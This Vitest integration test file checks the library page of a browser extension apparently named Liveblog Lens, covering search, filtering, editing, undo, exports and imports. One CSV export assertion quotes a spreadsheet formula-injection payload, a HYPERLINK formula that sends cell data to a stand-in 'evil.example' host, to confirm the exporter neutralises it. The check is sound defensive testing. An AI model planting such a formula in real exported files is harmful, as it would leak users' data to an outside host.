// @vitest-environment happy-dom
// The library page's container on a fake-indexeddb database, writing through the background's
// handlers (tests/helpers/background.ts): search narrows, filters, edit, delete and undo, bulk
// delete, live updates from another connection, export formats, and an export → clear → import
// round trip that restores the library exactly.
import { cleanup, fireEvent, screen, waitFor, within } from '@testing-library/preact';
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { LibraryContainer } from '../../../entrypoints/library/App';
import type { ExportFile } from '../../../lib/export/index';
import { Dexie } from 'dexie';
import { IDBFactory, IDBKeyRange } from 'fake-indexeddb';
import type { LensDb } from '../../../lib/store/db';
import { saveQuote } from '../../../lib/store/quotes';
import { BLOGS, dump, emptyDb, sampleDb, UKRAINE } from '../../unit/export/sample';
import type { Send } from '../../../entrypoints/shared/messenger';
import { backgroundFor } from '../../helpers/background';
import { expectNoAxeViolations } from '../../components/library/helpers';
import { en, renderT, translator, type Lang } from '../../helpers/i18n';
import type { Translator } from '../../../components/i18n';

// A path, not a URL: under happy-dom `URL` is the DOM's, which node:fs does not accept.
const EXPECTED_MD = readFileSync(join(dirname(fileURLToPath(import.meta.url)), '../../fixtures/library/expected-export.md'), 'utf8');
const NOW = Date.UTC(2024, 0, 3, 8);
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/** The expected file (the lib's fixed English dates, "Tue 2 Jan 2024, 13:30") with each date as `i18n` writes it in UTC. */
const datesAs = (md: string, i18n: Translator) =>
  md.replace(/\b[A-Z][a-z]{2} (\d{1,2}) ([A-Z][a-z]{2}) (\d{4}), (\d{2}):(\d{2})/g, (_m, d: string, mon: string, y: string, h: string, min: string) =>
    i18n.dateTime(Date.UTC(Number(y), MONTHS.indexOf(mon), Number(d), Number(h), Number(min)), 'UTC'),
  );

let factory: IDBFactory;
let db: LensDb;
let downloads: ExportFile[];

beforeEach(async () => {
  factory = new IDBFactory();
  // liveQuery stays silent unless Dexie found an IndexedDB when it loaded; Node has none.
  Object.assign(Dexie.dependencies, { indexedDB: factory, IDBKeyRange });
  db = await sampleDb(factory);
  downloads = [];
  document.documentElement.lang = 'en';
  document.title = 'Liveblog Lens library';
});
afterEach(() => {
  cleanup();
  db.close();
});

async function mount(undoMs?: number, lang: Lang = 'en', send: Send = backgroundFor(db)) {
  const view = renderT(<LibraryContainer db={db} send={send} now={() => NOW} timeZone="UTC" onDownload={(f) => downloads.push(f)} undoMs={undoMs} />, lang);
  await screen.findByText(translator(lang).plural('library.status.quotes', 6));
  return view;
}

function rows(): HTMLElement[] {
  const list = screen.queryByRole('list', { name: /Quotes|Starred entries/ });
  return list ? within(list).queryAllByRole('listitem') : [];
}
const rowTexts = () => rows().map((r) => r.querySelector('.lbl-text')?.textContent ?? '');

function exportAs(scope: RegExp, format: 'Markdown' | 'CSV' | 'JSON', menu = 'Export / import'): ExportFile {
  fireEvent.click(screen.getByText(menu));
  fireEvent.click(screen.getByRole('radio', { name: scope }));
  fireEvent.click(screen.getByRole('button', { name: format }));
  return downloads.at(-1)!;
}

describe('library page', () => {
  it('shows the saved quotes with their speakers', async () => {
    await mount();
    expect(rows()).toHaveLength(6);
    expect(screen.getAllByText('Keir Starmer')).toHaveLength(2);
    expect(screen.getByText('Rachel Reeves')).toBeTruthy();
  });

  it('narrows as the reader types, accents and case ignored, and "/" focuses the search', async () => {
    await mount();
    fireEvent.keyDown(document.body, { key: '/' });
    const search = screen.getByRole('searchbox', { name: 'Search' });
    expect(document.activeElement).toBe(search);
    fireEvent.input(search, { target: { value: 'PRETS' } });
    expect(rowTexts()).toEqual(['Nous sommes prêts à aller plus loin.']);
    expect(screen.getByText('1 of 6 quotes')).toBeTruthy();
    fireEvent.input(search, { target: { value: 'zelenskyy' } }); // blog title and entry text
    expect(rows()).toHaveLength(3);
    fireEvent.keyDown(search, { key: 'Escape' });
    expect(rows()).toHaveLength(6);
  });

  it('filters by speaker with counts, and clears', async () => {
    await mount();
    fireEvent.change(screen.getByLabelText('Speaker'), { target: { value: 'keir starmer' } });
    expect(rowTexts()).toEqual(['Sanctions will tighten.\n\nThere is no going back.', 'We will stand with Ukraine for as long as it takes.']);
    expect(Array.from((screen.getByLabelText('Blog') as HTMLSelectElement).options, (o) => o.textContent!.replace(/[\u2068\u2069]/g, ''))).toEqual([
      'All blogs (2)', 'Ukraine war live: Zelenskyy visits front (2)',
    ]);
    fireEvent.click(screen.getByRole('button', { name: 'Clear filters' }));
    expect(rows()).toHaveLength(6);
  });

  it('deletes a quote and undoes it (button and Ctrl+Z), leaving the database as it was', async () => {
    await mount();
    const before = await dump(db);
    fireEvent.click(screen.getByRole('button', { name: /Delete quote: Growth is up/ }));
    await waitFor(() => expect(rows()).toHaveLength(5));
    expect(screen.getByText('Deleted 1 quote.')).toBeTruthy();
    fireEvent.click(screen.getByRole('button', { name: 'Undo' }));
    await waitFor(() => expect(rows()).toHaveLength(6));
    expect(await dump(db)).toEqual(before);

    fireEvent.click(screen.getByRole('button', { name: /Delete quote: No comment/ }));
    await waitFor(() => expect(rows()).toHaveLength(5));
    fireEvent.keyDown(document.body, { key: 'z', ctrlKey: true });
    await waitFor(() => expect(rows()).toHaveLength(6));
    expect(await dump(db)).toEqual(before);
  });

  it('edits a quote speaker and note', async () => {
    await mount();
    fireEvent.click(screen.getByRole('button', { name: /Edit quote: No comment/ }));
    const form = within(screen.getByRole('form', { name: 'Edit quote' }));
    fireEvent.input(form.getByLabelText('Speaker'), { target: { value: 'Jeremy  Hunt' } });
    fireEvent.input(form.getByLabelText('Note'), { target: { value: 'Said outside No 11' } });
    fireEvent.click(form.getByRole('button', { name: 'Save' }));
    await waitFor(async () => expect(await db.quotes.get('q-nobody-01')).toMatchObject({ speaker: 'Jeremy Hunt', note: 'Said outside No 11', speakerKey: 'jeremy hunt' }));
    await screen.findByText('Jeremy Hunt');
  });

  it('selects all shown and deletes them in bulk, with undo', async () => {
    await mount();
    const before = await dump(db);
    fireEvent.input(screen.getByRole('searchbox'), { target: { value: 'budget' } });
    fireEvent.click(screen.getByRole('button', { name: 'Select all shown' }));
    expect(screen.getByText('3 selected')).toBeTruthy();
    fireEvent.click(screen.getByRole('button', { name: 'Delete selected' }));
    await screen.findByText('No quotes match.');
    expect(await db.quotes.count()).toBe(3);
    fireEvent.click(screen.getByRole('button', { name: 'Undo' }));
    await waitFor(() => expect(rows()).toHaveLength(3));
    expect(await dump(db)).toEqual(before);
  });

  it('shows a quote saved elsewhere without a reload (live query)', async () => {
    await mount();
    // Another connection to the same database, as the background worker has.
    const other = emptyDb(undefined, factory);
    await saveQuote(other, { id: 'q-live-00001', text: 'Saved in another tab', speaker: 'Ann Live', blog: UKRAINE, entry: null, entryTime: null, permalink: null }, NOW);
    await screen.findByText('Saved in another tab');
    expect(screen.getByText('7 quotes')).toBeTruthy();
    other.close();
  });

  it('unstars a starred entry and undoes it', async () => {
    await mount();
    fireEvent.click(screen.getByRole('button', { name: /Starred entries/ }));
    await waitFor(() => expect(rows()).toHaveLength(2));
    const before = await dump(db);
    fireEvent.click(screen.getByRole('button', { name: /Unstar entry: Drone attack/ }));
    await waitFor(() => expect(rows()).toHaveLength(1));
    fireEvent.click(screen.getByRole('button', { name: 'Undo' }));
    await waitFor(() => expect(rows()).toHaveLength(2));
    expect(await dump(db)).toEqual(before);
  });

  it('exports Markdown as in the expected file, and CSV with formula cells neutralised', async () => {
    await mount();
    const md = exportAs(/Everything/, 'Markdown');
    // Dates as the reader's locale writes them (English here: "Jan 2, 2024, 1:30 PM").
    expect(md.text).toMatch(/— Jan 2, 2024, 1:30\sPM · \[open entry\]/);
    expect(md.text).toBe(datesAs(EXPECTED_MD, en()));
    expect(md.filename).toBe('liveblog-lens-2024-01-03.md');
    const csv = exportAs(/Shown/, 'CSV');
    expect(csv.text.split('\r\n')).toHaveLength(8); // header, 6 quotes, final newline
    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1)"`);
  });

  it('exports Markdown in the reader’s language: headings, labels and dates', async () => {
    await mount(undefined, 'de');
    const md = exportAs(/Alles/, 'Markdown', 'Export / Import').text;
    expect(md.split('\n')[0]).toBe('# Liveblog Lens: 6 Zitate und 2 markierte Einträge');
    expect(md).toContain('### Ohne Person');
    expect(md).toContain('### Markierte Einträge');
    expect(md).toContain('— gespeichert am 02.01.2024, 09:00 · [Eintrag öffnen](<https://www.bbc.co.uk/news/live/uk-politics-67000001>)');
    expect(md).toContain('— 02.01.2024, 13:30 · [Eintrag öffnen]');
    expect(md).not.toMatch(/open entry|Unattributed|Starred entries|saved /);
  });

  it('exports the selection only', async () => {
    await mount();
    fireEvent.click(screen.getByRole('checkbox', { name: /Select quote: Growth is up/ }));
    const json = JSON.parse(exportAs(/Selected \(1\)/, 'JSON').text) as { quotes: Array<{ id: string }> };
    expect(json.quotes.map((q) => q.id)).toEqual(['q-reeves-01']);
  });

  it('round-trips: export JSON, clear, import, everything back identical', async () => {
    await mount();
    const before = await dump(db);
    const file = exportAs(/Everything/, 'JSON');
    // Clear: delete every quote, unstar every entry.
    fireEvent.click(screen.getByRole('button', { name: 'Select all shown' }));
    fireEvent.click(screen.getByRole('button', { name: 'Delete selected' }));
    await waitFor(() => expect(screen.getByText(/No saved quotes yet/)).toBeTruthy());
    fireEvent.click(screen.getByRole('button', { name: /Starred entries/ }));
    fireEvent.click(screen.getByRole('button', { name: 'Select all shown' }));
    fireEvent.click(screen.getByRole('button', { name: 'Unstar selected' }));
    await waitFor(() => expect(screen.getByText(/No starred entries yet/)).toBeTruthy());
    expect(await db.quotes.count()).toBe(0);

    const input = screen.getByLabelText('Import a JSON export') as HTMLInputElement;
    Object.defineProperty(input, 'files', { value: [new File([file.text], file.filename, { type: 'application/json' })], configurable: true });
    fireEvent.change(input);
    const report = await screen.findByRole('status', { name: 'Import result' });
    await waitFor(() => expect(report.textContent).toContain('Added 6 quotes and 2 starred entries.'));
    expect(report.textContent).toContain('0 items were rejected.');
    await waitFor(() => expect(rows()).toHaveLength(2));
    expect(await dump(db)).toEqual(before);
  });

  it('copies a quote, and a quote with its citation, from its row', async () => {
    const copied: string[] = [];
    renderT(<LibraryContainer db={db} send={backgroundFor(db)} now={() => NOW} timeZone="UTC" copyText={async (s) => void copied.push(s)} />, 'en');
    await screen.findByText(translator('en').plural('library.status.quotes', 6));
    fireEvent.click(screen.getByRole('button', { name: /^Copy quote: Growth is up/ }));
    fireEvent.click(screen.getByRole('button', { name: /^Copy citation: Growth is up/ }));
    await waitFor(() => expect(copied).toHaveLength(2));
    expect(copied[0]).toBe('Growth is up, and inflation is down to 2%.');
    expect(copied[1]).toMatch(/^“Growth is up, and inflation is down to 2%\.” — Rachel Reeves, Budget 2024 – live updates, Jan 2, 2024, 1:30\sPM UTC, https:\/\/www\.bbc\.co\.uk\/\S+#post-7$/);
    // The last button used says so (its name too, so what is read matches what is shown).
    await waitFor(() => expect(screen.getAllByRole('button', { name: 'Copied' }).map((b) => b.textContent)).toEqual(['Copied']));
  });

  it('reports a file it cannot import', async () => {
    await mount();
    const input = screen.getByLabelText('Import a JSON export') as HTMLInputElement;
    const text = JSON.stringify({ format: 'liveblog-lens', version: 7, quotes: [] });
    Object.defineProperty(input, 'files', { value: [new File([text], 'future.json')], configurable: true });
    fireEvent.change(input);
    const report = await screen.findByRole('status', { name: 'Import result' });
    await waitFor(() => expect(report.textContent).toContain('Nothing was imported: The export was made by a newer Liveblog Lens (format version 7)'));
  });

  it('imports all or nothing: a write failing after some parts were sent leaves the library as it was', async () => {
    const background = backgroundFor(db);
    const sent: string[] = [];
    const send = ((name, data) => {
      sent.push(name);
      if (name === 'commitImport') return Promise.reject(Object.assign(new Error('The disk is full'), { name: 'StorageUnavailableError' }));
      return background(name, data);
    }) as Send;
    await mount(undefined, 'en', send);
    const before = await dump(db);
    const quotes = Array.from({ length: 6001 }, (_, i) => ({
      id: `q-bulk-${String(i).padStart(6, '0')}`, text: `Imported words ${i}`, speaker: null, blog: BLOGS[0]!.key, site: 'guardian',
      entry: null, entryTime: null, permalink: null, savedAt: NOW,
    }));
    const text = JSON.stringify({ format: 'liveblog-lens', version: 1, blogs: [], quotes, starred: [] });
    const input = screen.getByLabelText('Import a JSON export') as HTMLInputElement;
    Object.defineProperty(input, 'files', { value: [new File([text], 'big.json')], configurable: true });
    fireEvent.change(input);
    const report = await screen.findByRole('status', { name: 'Import result' });
    await waitFor(() => expect(report.textContent).toContain('the library could not be written (The disk is full)'), { timeout: 10_000 });
    expect(sent.filter((n) => n === 'stageImport')).toHaveLength(4); // 2,000 rows a part
    await waitFor(() => expect(sent).toContain('discardImport'));
    expect(await dump(db)).toEqual(before);
    expect(await db.imports.count()).toBe(0);
  });

  it('has no axe violations as a whole page', async () => {
    await mount();
    await expectNoAxeViolations(document.documentElement);
    fireEvent.click(screen.getByText('Export / import'));
    await expectNoAxeViolations(document.documentElement);
  });
});
